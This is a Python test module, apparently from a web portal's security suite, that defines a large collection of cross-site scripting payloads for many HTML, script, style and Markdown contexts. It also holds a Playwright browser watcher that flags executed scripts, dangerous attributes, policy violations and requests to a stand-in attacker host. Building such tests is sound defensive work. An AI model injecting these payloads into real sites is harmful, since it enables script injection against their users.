"""What attackers write into fields, and a browser that notices when any of it is more than text."""

import re
from collections.abc import Mapping
from dataclasses import dataclass, field
from typing import Any
from urllib.parse import urlsplit

from playwright.sync_api import Browser, BrowserContext, Page

#: Where a text can stand when nobody has escaped it; `{}` is the text. Each attack names the one that it is made for.
PLACES: Mapping[str, str] = {
    "text": "<p>{}</p>",
    "double": '<input value="{}">',
    "single": "<input value='{}'>",
    "bare": "<input value={}>",
    "link": '<a href="{}">x</a>',
    "frame": '<iframe src="{}"></iframe>',
    "script": "<script>window.known = '{}';</script>",
    "data": '<script type="application/ld+json">{{"name": "{}"}}</script>',
    "title": "<title>{}</title>",
    "area": "<textarea>{}</textarea>",
    "style": "<style>p {{ color: {} }}</style>",
    "comment": "<!-- {} -->",
    "cdata": "<svg><desc><![CDATA[{}]]></desc></svg>",
    "noscript": "<noscript>{}</noscript>",
    "option": "<select><option>{}</option></select>",
}
#: By name: the place, and the text. `xss` marks what must never become an element, an attribute or a name.
_ATTACKS: Mapping[str, tuple[str, str]] = {
    "script": ("text", "<script>__xss(0)</script>"),
    "script-case": ("text", "<ScRiPt xss>__xss(0)</sCrIpT\t>"),
    "script-nested": ("text", "<scr<script>ipt>__xss(0)</scr</script>ipt><script>__xss(0)</script>"),
    "image": ("text", "<img src=x onerror=__xss(0)>"),
    "image-slashes": ("text", "<img/xss/src=x/onerror=__xss(0)//"),
    "svg": ("text", "<svg onload=__xss(0)>"),
    "svg-script": ("text", "<svg><script href=data:,__xss(0) xss></script></svg>"),
    "svg-animate": ("text", "<svg><a xlink:href='javascript:__xss(0)' xss><text y=9>x</text></a></svg>"),
    "math": (
        "text",
        "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=__xss(0)&gt;' xss>",
    ),
    "details": ("text", "<details open ontoggle=__xss(0)><summary>x</summary></details>"),
    "focus": ("text", "<input autofocus onfocus=__xss(0)>"),
    "video": ("text", "<video><source onerror=__xss(0)></video>"),
    "animation": ("text", "<style>@keyframes q{}</style><b style='animation:q 1s' onanimationstart=__xss(0)>x</b>"),
    "frame": ("text", "<iframe srcdoc='<img src=x onerror=parent.__xss(0)>' xss></iframe>"),
    "object": ("text", "<object data='javascript:__xss(0)' xss></object><embed src='javascript:__xss(0)' xss>"),
    "base": ("text", "<base href='//attack.invalid/' xss>"),
    "refresh": ("text", "<meta http-equiv=refresh content='9;url=javascript:__xss(0)' xss>"),
    "stylesheet": ("text", "<link rel=stylesheet href=//attack.invalid/x.css xss>"),
    "form": ("text", "<form action=//attack.invalid/ xss><button formaction=javascript:__xss(0)>x</button></form>"),
    "clobbering": ("text", "<a id=xss name=xss></a><form id=xss name=body><input name=attributes></form>"),
    "custom": ("text", "<xss-element is=xss style=position:fixed>{{1234*4321}}</xss-element>"),
    "double": ("double", '" autofocus onfocus=__xss(0) x="'),
    "double-tag": ("double", '"><img src=x onerror=__xss(0)>'),
    "single": ("single", "' autofocus onfocus=__xss(0) x='"),
    "single-tag": ("single", "'><svg/onload=__xss(0)>"),
    "bare": ("bare", "x onfocus=__xss(0) autofocus"),
    "backtick": ("", "`onfocus=__xss(0) autofocus x=`"),
    "link": ("link", "javascript:__xss(0)"),
    "link-case": ("link", " \x01jAvA\tScRiPt:__xss(0)"),
    "link-entities": ("link", "&#106;ava&Tab;script&colon;__xss(0)"),
    "link-data": ("link", "data:text/html,<script>opener.__xss(0)</script>"),
    "link-vbscript": ("link", "vbscript:__xss(0)"),
    "frame-script": ("frame", "javascript:parent.__xss(0)"),
    "in-script": ("script", "';__xss(0);//"),
    "in-script-end": ("script", "</script><script>__xss(0)</script>"),
    "in-script-line": ("script", "\\u0027;</script ><svg onload=__xss(0)>"),
    "in-data": ("data", '"}</script><img src=x onerror=__xss(0)>'),
    "in-title": ("title", "</title><img src=x onerror=__xss(0)>"),
    "in-area": ("area", "</textarea><img src=x onerror=__xss(0)>"),
    "in-style": ("style", "red}</style><img src=x onerror=__xss(0)>"),
    "in-style-import": ("style", "red } body { background: url(http://attack.invalid/x.css)"),
    "in-comment": ("comment", "--!><img src=x onerror=__xss(0)>"),
    "in-comment-short": ("text", "<!--><img src=x onerror=__xss(0)>-->"),
    "in-cdata": ("cdata", "]]></desc></svg><img src=x onerror=__xss(0)>"),
    "in-noscript": ("noscript", '<p title="</noscript><img src=x onerror=__xss(0)>">'),
    "in-option": ("option", "</option></select><img src=x onerror=__xss(0)>"),
    "template": ("", "{{1234*4321}} ${1234*4321} #{1234*4321} <%= 1234*4321 %> {%print(1234*4321)%} {{config}}"),
    "utf-7": ("", "+ADw-img src=x onerror=__xss(0)+AD4-"),
    "full-width": ("", "\uff1cimg src=x onerror=__xss(0)\uff1e"),
    "escaped": ("", "\\u003cimg src=x onerror=__xss(0)\\u003e &lt;img src=x onerror=__xss(0)&gt; %3Cimg%3E"),
    "direction": ("", "\u202e\u2066<b xss>\u2069 left to right"),
    "line-ends": ("", "x\u2028\u2029</b>\r\nSet-Cookie: xss=1"),
}
#: What Markdown makes of writers' texts; at the beginning of lines.
MARKDOWN = (
    "[x](javascript:__xss(0)) [x](<java\tscript:__xss(0)>) [x](data:text/html,<script>__xss(0)</script>)",
    '<javascript:__xss(0)> <https://example.org/"onmouseover=__xss(0)> ![x](javascript:__xss(0) "\' onerror=__xss(0)")',
    '<img src=x.png onerror=__xss(0)> ![x" onerror="__xss(0)](x.png) ![x](images/picture.svg"onload="__xss(0)) ![x](images/picture.svg){: onerror=__xss(0) }',
    "[x][1] [^n]\n\n[1]: javascript:__xss(0) 'x\" onclick=__xss(0)'\n[^n]: <img src=x onerror=__xss(0)>",
    "## <img src=x onerror=__xss(0)> heading {#xss onclick=__xss(0) style=color:red xss=1}",
    "```{ .html onmouseover=__xss(0) xss=1 }\n<img src=x onerror=__xss(0)>\n```",
    '<div markdown="1" onclick="__xss(0)" style="position:fixed" xss>\n\n**bold**\n\n</div>',
    '!!! note "<img src=x onerror=__xss(0)>"\n    <svg onload=__xss(0)>',
    "| <img src=x onerror=__xss(0)> | a |\n|---|---|\n| `<svg onload=__xss(0)>` | </td></table><svg onload=__xss(0)> |",
    "Term <svg onload=__xss(0)>\n:   <img src=x onerror=__xss(0)>",
    '<b title="<pre onclick=__xss(0)>" class="<table xss">x</b> <img alt="> <img src=x onerror=__xss(0)>">',
    "*x*{: onclick=__xss(0) xss=1 } <p id=ui-search name=body>x</p>",
    "<picture><img srcset='//attack.invalid/x.png'></picture> <img src=//attack.invalid/y.png>",
)
TEXTS = tuple(text for _, text in _ATTACKS.values())
ATTACKS = _ATTACKS
#: All of them at once, for fields that take much.
EVERYTHING = "\n".join(TEXTS)


def one_line(text: str) -> str:
    """An attack without the signs that no field of one line takes."""
    return "".join(sign for sign in text if sign.isprintable())


#: The same without them, for fields that refuse them.
PLAIN = "\n".join(one_line(text) for text in TEXTS)
#: A picture that writers ship, whose scripts must not run.
PICTURE = (
    '<svg xmlns="http://www.w3.org/2000/svg" onload="__xss(0)" width="9" height="9"><script>__xss(0)</script>'
    '<image href="//attack.invalid/x.png"/><foreignObject><img xmlns="http://www.w3.org/1999/xhtml" src="x" '
    'onerror="__xss(0)"/></foreignObject></svg>'
)

#: Before anything of a page: what attacks call, and what the browser refuses.
_HOOK = """
window.__found = [];
window.__xss = () => { window.__found.push("a script of an attacker ran"); };
document.addEventListener("securitypolicyviolation", (event) => {
  window.__found.push(`the policy had to refuse ${event.effectiveDirective} ${event.blockedURI} ${event.sample}`);
});
"""
#: Everything in a page that only an attacker can have made, also inside of shadow roots and templates.
_LOOK = r"""(host) => {
  const found = [...window.__found];
  const bad = (text) => /^(javascript|vbscript|data:(?!image\/)|blob)/i.test(text.replace(/[\x00-\x20]/g, ""));
  const ATTRIBUTES = Object.getOwnPropertyDescriptor(Element.prototype, "attributes").get;
  const roots = [document];
  while (roots.length) {
    for (const part of roots.pop().querySelectorAll("*")) {
      if (part.shadowRoot) roots.push(part.shadowRoot);
      if (part.content instanceof DocumentFragment) roots.push(part.content);
      const tag = part.localName;
      const show = () => part.outerHTML.slice(0, 120);
      if (/^(iframe|frame|object|embed|base|applet|math|marquee|video|audio)$/.test(tag) || /xss/.test(tag)
        || (tag === "meta" && part.httpEquiv === "refresh" && /script|attack/.test(part.content))
        || (tag === "script" && !part.src && !/json/.test(part.type))) found.push(`element ${show()}`);
      // Named as nothing can clobber it: `part.attributes` may be a field of a form.
      for (const { name, value } of Array.from(ATTRIBUTES.call(part))) {
        const words = name === "xss" || (/^(id|name|is|class)$/.test(name) && value.split(" ").includes("xss"));
        const leads = /^(href|src|action|formaction|data|xlink:href|srcset|poster|background)$/.test(name);
        if (name.startsWith("on") || name === "srcdoc" || (words && !part.dataset.ownAnchor)
          || (leads && (bad(value) || /^(https?:)?\/\/attack/.test(value)))
          || (name === "style" && /attack|expression|animation/.test(value))) found.push(`${name} of ${show()}`);
      }
    }
  }
  const text = document.documentElement.textContent;
  if (text.includes("5332114")) found.push("a template was computed");
  if (document.characterSet !== "UTF-8") found.push(`read as ${document.characterSet}`);
  return found;
}"""
#: What the browser says of the status of a page that is an error, and of pages that are not there.
_OF_STATUS = re.compile(r"the server responded with a status of 4\d\d")


@dataclass
class Watch:
    """A tab that opens pages and notes what no attacker may bring about.

    Args:
        browser: to open it in.
        address: of the portal; no request may lead elsewhere.
        cookies: of whoever looks.
        bypass_csp: without the policy, which is only the second line of defence.
    """

    browser: Browser
    address: str
    cookies: list[Any] = field(default_factory=list)
    bypass_csp: bool = False
    faults: list[str] = field(default_factory=list)
    #: Origins besides the portal's.
    allowed: tuple[str, ...] = ()

    def __post_init__(self) -> None:
        self.context: BrowserContext = self.browser.new_context(bypass_csp=self.bypass_csp, locale="en")
        self.context.add_init_script(_HOOK)
        self.context.add_cookies(self.cookies)
        self.page: Page = self.context.new_page()
        self._where = ""
        self.page.on("dialog", self._dialog)
        self.page.on("console", self._said)
        self.page.on("pageerror", lambda error: self._note(f"error: {error}"))
        self.page.on("request", self._requested)

    def look(self, address: str) -> str:
        """Open a page and note what is wrong with it; the kind of its content."""
        self._where = address
        answer = self.page.goto(address, wait_until="load")
        kind = answer.headers.get("content-type", "") if answer else ""
        self.examine()
        return kind

    def examine(self) -> None:
        """Note what is wrong with the page as it stands."""
        for each in self.page.evaluate(_LOOK, self.address):
            self._note(each)

    def examine_widget(self) -> None:
        """The same on another site's page, whose own script and elements are no attacker's."""
        self.faults += [f"widget: {each}" for each in self.page.evaluate(_LOOK, self.address) if "tier0" not in each]

    def _note(self, fault: str) -> None:
        """Keep a fault with its page."""
        self.faults.append(f"{self._where}: {fault}")

    def _dialog(self, dialog: Any) -> None:
        """Nothing here asks by dialogs."""
        self._note(f"dialog {dialog.message}")
        dialog.dismiss()

    def _said(self, message: Any) -> None:
        """Keep errors of the console."""
        if message.type == "error" and not _OF_STATUS.search(message.text):
            self._note(f"console: {message.text}")

    def _requested(self, request: Any) -> None:
        """Keep requests to other hosts."""
        if urlsplit(request.url).scheme != "data" and not request.url.startswith((self.address, *self.allowed)):
            self._note(f"request to {request.url}")

    def close(self) -> None:
        """Close the tab."""
        self.context.close()
